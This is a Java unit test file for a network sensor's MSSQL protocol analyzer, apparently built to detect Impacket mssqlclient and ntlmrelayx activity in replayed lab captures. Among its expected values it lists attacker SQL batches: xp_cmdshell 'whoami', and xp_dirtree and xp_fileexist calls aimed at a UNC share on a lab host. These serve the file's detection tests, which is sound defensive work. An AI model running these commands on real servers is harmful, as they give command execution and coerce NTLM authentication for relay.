package io.impacketsensor.decoders.mssql;

import io.impacketsensor.core.event.Carrier;
import io.impacketsensor.core.event.MssqlEvent;
import io.impacketsensor.core.event.MssqlEvent.MssqlBatch;
import io.impacketsensor.core.event.MssqlEvent.MssqlLogin;
import io.impacketsensor.core.event.MssqlEvent.MssqlPrelogin;
import io.impacketsensor.core.event.NtlmEvent;
import io.impacketsensor.core.event.SensorEvent;
import io.impacketsensor.core.event.Transport;
import io.impacketsensor.core.flow.Direction;
import io.impacketsensor.core.testkit.Captures;
import io.impacketsensor.core.testkit.RecordingContext;
import io.impacketsensor.core.testkit.Replay;
import io.impacketsensor.decoders.DecoderConfig;
import io.impacketsensor.decoders.Decoders;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The TDS analyzer: the lab's MSSQL NTLM logins (Impacket's mssqlclient.py and ntlmrelayx against
 * the lab's TDS responder), and the encryption outcomes and malformed input on synthetic packets.
 */
class MssqlAnalyzerTest {
    private final MssqlCounters counters = new MssqlCounters();

    private MssqlAnalyzer analyzer(RecordingContext ctx, MssqlLimits limits) {
        return new MssqlAnalyzer(ctx, limits, counters, Decoders.tokenDecoder(DecoderConfig.defaults()));
    }

    @Test
    void labMssqlclientLoginWithNtlmAndItsBatches() throws Exception {
        for (String name : new String[]{"atk_mssqlclient.i014.pcap", "atk_mssqlclient.i010.pcap"}) {
            List<SensorEvent> ev = Replay.events(Captures.lab(name), Decoders.forWorker());
            MssqlPrelogin p = RecordingContext.of(ev, MssqlPrelogin.class).get(0);
            assertEquals(MssqlEvent.ENCRYPTION_NONE, p.encryption(), name);
            assertEquals(0, p.clientEncryption());
            assertEquals(2, p.serverEncryption(), "the lab responder answers ENCRYPT_NOT_SUP");
            MssqlLogin l = RecordingContext.of(ev, MssqlLogin.class).get(0);
            assertTrue(l.integrated() && l.success() && l.answered(), name);
            assertEquals("", l.username(), "integrated security: no SQL user name");
            assertEquals("Microsoft SQL Server", l.serverProgram());
            NtlmEvent.NtlmAuthenticate a = RecordingContext.of(ev, NtlmEvent.NtlmAuthenticate.class).get(0);
            assertEquals(Carrier.MSSQL, a.carrier());
            assertEquals("da_carol", a.user());
            assertEquals("LAB", a.domain());
            assertEquals(0, a.status(), "LOGINACK");
            assertTrue(a.serverChallenge() != null, "the challenge of the SSPI token is tied to the AUTHENTICATE");
            List<String> batches = RecordingContext.of(ev, MssqlBatch.class).stream().map(MssqlBatch::textPrefix).toList();
            assertTrue(batches.contains("exec master..xp_cmdshell 'whoami'\r\n"), batches.toString());
            assertTrue(batches.contains("EXEC master..xp_dirtree '\\\\10.99.0.2\\share'\r\n"), batches.toString());
            assertTrue(batches.contains("EXEC master.dbo.xp_fileexist '\\\\10.99.0.2\\share\\report.xlsx'\r\n"),
                    batches.toString());
        }
    }

    /** Lab: login-only encryption (PRELOGIN ENCRYPT_OFF): the LOGIN7 is TLS, the SSPI AUTHENTICATE and batches are not. */
    @Test
    void labLoginOnlyEncryptionStillShowsTheSspiAuthenticateAndTheBatches() throws Exception {
        for (String name : new String[]{"atk_mssqlclient_tls.i014.pcap", "atk_mssqlclient_tls.i010.pcap"}) {
            List<SensorEvent> ev = Replay.events(Captures.lab(name), Decoders.forWorker());
            assertEquals(MssqlEvent.ENCRYPTION_LOGIN_ONLY, RecordingContext.of(ev, MssqlPrelogin.class).get(0).encryption(),
                    name);
            MssqlLogin l = RecordingContext.of(ev, MssqlLogin.class).get(0);
            assertTrue(l.encryptedLogin() && l.success() && l.answered(), name);
            NtlmEvent.NtlmAuthenticate a = RecordingContext.of(ev, NtlmEvent.NtlmAuthenticate.class).get(0);
            assertEquals("da_carol", a.user(), name);
            assertEquals(Carrier.MSSQL, a.carrier());
            assertTrue(RecordingContext.of(ev, MssqlBatch.class).stream().map(MssqlBatch::textPrefix)
                    .anyMatch(t -> t.startsWith("exec master..xp_cmdshell 'whoami'")), name);
        }
    }

    /** Lab: a wrong password: the responder answers the SSPI AUTHENTICATE with ERROR 18456 and no LOGINACK. */
    @Test
    void labFailedLoginCarriesError18456() throws Exception {
        for (String name : new String[]{"atk_mssqlclient_badpw.i014.pcap", "atk_mssqlclient_badpw.i010.pcap"}) {
            List<SensorEvent> ev = Replay.events(Captures.lab(name), Decoders.forWorker());
            MssqlLogin l = RecordingContext.of(ev, MssqlLogin.class).get(0);
            assertTrue(l.answered() && !l.success(), name);
            assertEquals(18456, l.errorNumber(), name);
            assertEquals("Login failed for user 'LAB\\da_carol'.", l.errorMessage(), name);
            NtlmEvent.NtlmAuthenticate a = RecordingContext.of(ev, NtlmEvent.NtlmAuthenticate.class).get(0);
            assertEquals("da_carol", a.user(), name);
            assertEquals(18456, a.status(), "the AUTHENTICATE's outcome is the login error");
            assertEquals(List.of(), RecordingContext.of(ev, MssqlBatch.class), name);
        }
    }

    @Test
    void batchTextIsABoundedPrefix() throws Exception {
        List<SensorEvent> ev = Replay.events(Captures.lab("atk_mssqlclient.i014.pcap"),
                List.of(new MssqlAnalyzerFactory(new MssqlLimits(512, 16), null)));
        List<MssqlBatch> b = RecordingContext.of(ev, MssqlBatch.class);
        assertEquals(7, b.size());
        assertEquals("exec master.dbo.", b.get(2).textPrefix(), "16 characters of the sp_configure batch");
        assertTrue(b.get(2).truncated());
        assertEquals("select @@version", b.get(1).textPrefix());
        assertTrue(b.get(1).truncated(), "the CR LF after it is cut");
    }

    // Synthetic packets below, laid out by MS-TDS 2.2.3.1 (header) and 2.2.6.5 (PRELOGIN).

    private static byte[] packet(int type, byte[] data) {
        ByteArrayOutputStream o = new ByteArrayOutputStream();
        int len = data.length + 8;
        o.writeBytes(new byte[]{(byte) type, 1, (byte) (len >> 8), (byte) len, 0, 0, 1, 0});
        o.writeBytes(data);
        return o.toByteArray();
    }

    /** A PRELOGIN option table with VERSION 15.0.2000.0 and the given ENCRYPTION. */
    private static byte[] prelogin(int encryption) {
        return new byte[]{0, 0, 11, 0, 6, 1, 0, 17, 0, 1, (byte) 0xFF, 15, 0, 0x07, (byte) 0xD0, 0, 0, (byte) encryption};
    }

    @Test
    void encryptionOfTheWholeConnectionIsReportedAndNotInspected() {
        RecordingContext ctx = new RecordingContext(Transport.TCP, 1433);
        MssqlAnalyzer a = analyzer(ctx, MssqlLimits.DEFAULTS);
        byte[] req = packet(0x12, prelogin(1));
        byte[] resp = packet(0x04, prelogin(0));
        assertTrue(a.onData(Direction.TO_SERVER, req, 0, req.length));
        assertFalse(a.onData(Direction.TO_CLIENT, resp, 0, resp.length));
        MssqlPrelogin p = ctx.of(MssqlPrelogin.class).get(0);
        assertEquals(MssqlEvent.ENCRYPTION_FULL, p.encryption());
        assertEquals("15.0.2000.0", p.clientVersion());
        assertEquals(1, counters.encrypted);
    }

    @Test
    void withLoginOnlyEncryptionTheTlsRecordsArePassedOverAndTheOutcomeRead() {
        RecordingContext ctx = new RecordingContext(Transport.TCP, 1433);
        MssqlAnalyzer a = analyzer(ctx, MssqlLimits.DEFAULTS);
        byte[] req = packet(0x12, prelogin(0));
        byte[] resp = packet(0x04, prelogin(0));
        // The handshake inside PRELOGIN packets, then the LOGIN7 as a raw TLS application-data record.
        byte[] hello = packet(0x12, new byte[]{0x16, 3, 1, 0, 2, 1, 0});
        byte[] login = {0x17, 3, 3, 0, 4, 9, 9, 9, 9};
        // LOGINACK (2.2.7.14): interface 1, TDS 7.4, ProgName "SQL" (3 characters), version 15.0.2000.
        byte[] ack = packet(0x04, new byte[]{(byte) 0xAD, 16, 0, 1, 0x74, 0, 0, 4, 3, 'S', 0, 'Q', 0, 'L', 0,
                15, 0, 7, (byte) 0xD0});
        assertTrue(a.onData(Direction.TO_SERVER, req, 0, req.length));
        assertTrue(a.onData(Direction.TO_CLIENT, resp, 0, resp.length));
        assertTrue(a.onData(Direction.TO_SERVER, hello, 0, hello.length));
        assertTrue(a.onData(Direction.TO_SERVER, login, 0, 3));
        assertTrue(a.onData(Direction.TO_SERVER, login, 3, login.length - 3));
        assertTrue(a.onData(Direction.TO_CLIENT, ack, 0, ack.length));
        assertEquals(MssqlEvent.ENCRYPTION_LOGIN_ONLY, ctx.of(MssqlPrelogin.class).get(0).encryption());
        MssqlLogin l = ctx.of(MssqlLogin.class).get(0);
        assertTrue(l.encryptedLogin() && l.success() && l.answered());
        assertEquals("SQL", l.serverProgram());
        assertEquals(List.of(), ctx.anomalies());
        assertEquals(1, counters.encryptedLogins);
    }

    @Test
    void aMessageOverTheLimitIsPassedOverAndTheNextRead() {
        RecordingContext ctx = new RecordingContext(Transport.TCP, 1433);
        MssqlAnalyzer a = analyzer(ctx, new MssqlLimits(512, 16));
        // A LOGIN7 of three 300-byte packets without EOM, then a batch: synthetic.
        ByteArrayOutputStream o = new ByteArrayOutputStream();
        for (int i = 0; i < 3; i++) {
            byte[] p = packet(0x10, new byte[300]);
            p[1] = (byte) (i == 2 ? 1 : 0);
            o.writeBytes(p);
        }
        o.writeBytes(packet(0x01, new byte[]{'s', 0, 'e', 0, 'l', 0}));
        byte[] b = o.toByteArray();
        assertTrue(a.onData(Direction.TO_SERVER, b, 0, b.length));
        assertEquals(List.of("mssql.message_too_long"), ctx.anomalies());
        assertEquals("sel", ctx.of(MssqlBatch.class).get(0).textPrefix());
    }

    @Test
    void anUnknownPacketTypeResynchronisesAtTheNextPlausibleHeader() {
        RecordingContext ctx = new RecordingContext(Transport.TCP, 1433);
        MssqlAnalyzer a = analyzer(ctx, MssqlLimits.DEFAULTS);
        byte[] junk = {(byte) 0x99, 1, 0, 12, 0, 0, 1, 0, 1, 2, 3, 4}; // synthetic
        byte[] batch = packet(0x01, new byte[]{'x', 0});
        assertTrue(a.onData(Direction.TO_SERVER, junk, 0, junk.length));
        assertTrue(a.onData(Direction.TO_SERVER, batch, 0, batch.length));
        assertEquals(List.of("mssql.bad_packet"), ctx.anomalies());
        assertEquals("x", ctx.of(MssqlBatch.class).get(0).textPrefix());
    }

    @Test
    void encryptionOutcomeFollowsTheSpecTable() {
        assertEquals(MssqlEvent.ENCRYPTION_NONE, MssqlAnalyzer.outcome(2, 0));
        assertEquals(MssqlEvent.ENCRYPTION_NONE, MssqlAnalyzer.outcome(0, 2));
        assertEquals(MssqlEvent.ENCRYPTION_LOGIN_ONLY, MssqlAnalyzer.outcome(0, 0));
        assertEquals(MssqlEvent.ENCRYPTION_FULL, MssqlAnalyzer.outcome(1, 0));
        assertEquals(MssqlEvent.ENCRYPTION_FULL, MssqlAnalyzer.outcome(0, 3));
        assertEquals(MssqlEvent.ENCRYPTION_FULL, MssqlAnalyzer.outcome(0x81, 1));
    }
}
